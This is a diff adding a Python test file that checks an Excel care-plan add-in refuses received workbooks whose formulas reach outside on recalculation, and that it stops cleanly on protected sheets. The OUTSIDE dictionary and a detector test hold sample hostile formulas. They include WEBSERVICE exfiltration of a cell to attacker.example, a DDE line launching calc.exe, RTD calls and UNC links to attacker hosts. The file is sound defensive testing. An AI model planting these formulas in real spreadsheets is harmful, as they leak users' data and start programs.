@@ -1,0 +1,129 @@
+"""A received workbook must not steer 「点検する」, third review (the first two: tests/test_addin_adversarial.py and
+tests/test_addin_received.py; the real-Calc cases are in tests/test_libreoffice_live.py).
+
+Each test is one class of attack by a sender, or one way the live path could stop half-way: formulas that reach
+outside the workbook when our writes make Excel recalculate, a sheet we cannot write to, a 点検結果 sheet of the
+user's found only after the schedule was written. What we cannot do safely is refused before anything changes.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+
+import pytest
+
+from fake_xlwings import Book, Formula
+from test_addin_live import samples  # noqa: F401 - the session fixture
+from xl_careplan.addin.live import LiveWorkbook, run_on_caller
+from xl_careplan.addin.outside import reaches_outside
+
+TODAY = dt.date(2026, 11, 25)
+PLAN = "07_period_and_dates.xlsx"  # its click writes the schedule, notes, fills and two sheets
+
+
+def _refused(book, *words, platform="win32"):
+    before = book.snapshot()
+    result = run_on_caller(book, today=TODAY, platform=platform)
+    prompt = book.app.alerts[-1]["prompt"]
+    assert not result.ok, prompt
+    for w in words:
+        assert w in prompt, prompt
+    assert book.snapshot() == before  # nothing written
+    return prompt
+
+
+# --- formulas that reach outside on recalculation ------------------------------------------------------------
+
+
+OUTSIDE = {
+    "webservice": '=WEBSERVICE("https://attacker.example/?n="&ENCODEURL(第1表!B4))',
+    "dde": "=cmd|'/c calc.exe'!A0",
+    "rtd": '=RTD("evil.server",,"x")',
+    "unc_link": "='\\\\attacker.example\\share\\[master.xlsx]Sheet1'!$A$1",
+    "web_link": "='https://attacker.example/x/[master.xlsx]Sheet1'!$A$1",
+    "hidden_in_quotes": "='a\"b'!A1&WEBSERVICE(\"https://x.example/\")&'c\"d'!A1",
+}
+
+
+@pytest.mark.parametrize("kind", sorted(OUTSIDE))
+@pytest.mark.parametrize("where", ["plan sheet", "very hidden sheet"])
+def test_a_formula_that_reaches_outside_is_refused_before_anything_is_written(samples, kind, where):
+    """Our first write makes Excel recalculate: WEBSERVICE would send the user's name, DDE / RTD start a program, a
+    link into \\\\server contacts it with the user's credentials. The message names the cell and the file path."""
+    book = Book.from_xlsx(samples / PLAN)
+    sheet = book.sheets[1]
+    if where == "very hidden sheet":
+        sheet = book.sheets.add("calc", after=book.sheets[-1])
+        sheet.api.Visible = 2
+    sheet._values[(60, 30)] = Formula(OUTSIDE[kind])
+    prompt = _refused(book, "何も書き込まず", "AD60", sheet.name, "xl-careplan check --annotate")
+    assert reaches_outside(OUTSIDE[kind]) in prompt
+
+
+def test_a_defined_name_holding_such_a_formula_is_refused_too(samples):
+    book = Book.from_xlsx(samples / PLAN)
+    book.add_name("送信", '=WEBSERVICE("https://attacker.example/?"&第1表!$B$4)')
+    _refused(book, "名前「送信」", "WEBSERVICE")
+
+
+@pytest.mark.parametrize("formula", ['="WEBSERVICE(説明のための文字)"', "='C:\\様式\\[事業所一覧.xlsx]一覧'!$B$2",
+                                     '=A1&" | "&B1', "='利用者|家族'!A1", '=HYPERLINK("https://example.jp/","手引き")'])
+def test_formulas_that_stay_inside_are_written_as_usual(samples, formula):
+    """A string that mentions a function, a local workbook's cached link, a '|' in a string or a sheet name, a
+    link the user may click: nothing is fetched or started by recalculation."""
+    book = Book.from_xlsx(samples / PLAN)
+    book.sheets[1]._values[(60, 30)] = Formula(formula)
+    result = run_on_caller(book, today=TODAY, platform="win32")
+    assert result.ok, book.app.alerts[-1]["prompt"]
+
+
+@pytest.mark.parametrize("formula, found", [
+    ("=_xlfn.WEBSERVICE(A1)", "WEBSERVICE"), ("=image(A1)", "IMAGE"), ('=DDE("soffice";"x";"y")', "DDE"),
+    ("='file://attacker.example/x/b.ods'#$Sheet1.A1", "ネットワーク"), ("='file:///home/u/b.ods'#$Sheet1.A1", None),
+    ("='a\"b'!A1&cmd|'x'!A0&'c\"d'!A1", "DDE"), ("=MYIMAGE(A1)", None), ("=SUM(A1:A3)", None), ("WEBSERVICE(", None),
+    ('=INDIRECT("\'\\\\attacker.example\\s\\[x.xlsx]S\'!A1")', "ネットワーク"), ('=INDIRECT("B"&ROW())', None),
+])
+def test_what_reaches_outside_is_read_from_code_not_from_text(formula, found):
+    what = reaches_outside(formula)
+    assert (what is None) if found is None else (found in what), what
+
+
+# --- what would stop us half-way ------------------------------------------------------------------------------
+
+
+def test_a_results_sheet_of_the_users_is_refused_before_the_schedule_is_written(samples):
+    """The annotator refuses to replace a 点検結果 sheet it did not make — but the schedule came first and was
+    already written into the user's モニタリング sheet."""
+    book = Book.from_xlsx(samples / PLAN)
+    mine = book.sheets.add("点検結果", after=book.sheets[-1])
+    mine["A1"].value = [["事業所内の点検結果（手書き）"], ["11/20 ○○さん確認済み"]]
+    _refused(book, "点検結果", "上書きしませんでした")
+
+
+def test_a_protected_sheet_is_refused_before_anything_is_written(samples):
+    """Excel refuses notes and colours on a protected sheet: the button would stop half-way with an unexpected
+    error, the schedule and some notes written."""
+    book = Book.from_xlsx(samples / PLAN)
+    book.sheets["第1表"]._protected = True
+    _refused(book, "保護", "第1表")
+
+
+def test_a_protected_structure_is_refused_before_anything_is_written(samples):
+    book = Book.from_xlsx(samples / PLAN)
+    book.protect_structure = True
+    _refused(book, "ブックの構成が保護")
+
+
+def test_a_protected_sheet_we_do_not_write_to_is_no_reason_to_stop(samples):
+    book = Book.from_xlsx(samples / PLAN)
+    book.sheets.add("記入の手引き", after=book.sheets[-1])._protected = True
+    result = run_on_caller(book, today=TODAY, platform="win32")
+    assert result.ok, book.app.alerts[-1]["prompt"]
+
+
+def test_formulas_are_read_in_one_call_a_sheet(samples):
+    book = Book.from_xlsx(samples / PLAN)
+    lw = LiveWorkbook(book, platform="win32")
+    book.calls = 0
+    assert list(lw._formulas()) == []
+    assert book.calls <= 6 * len(book._sheets)
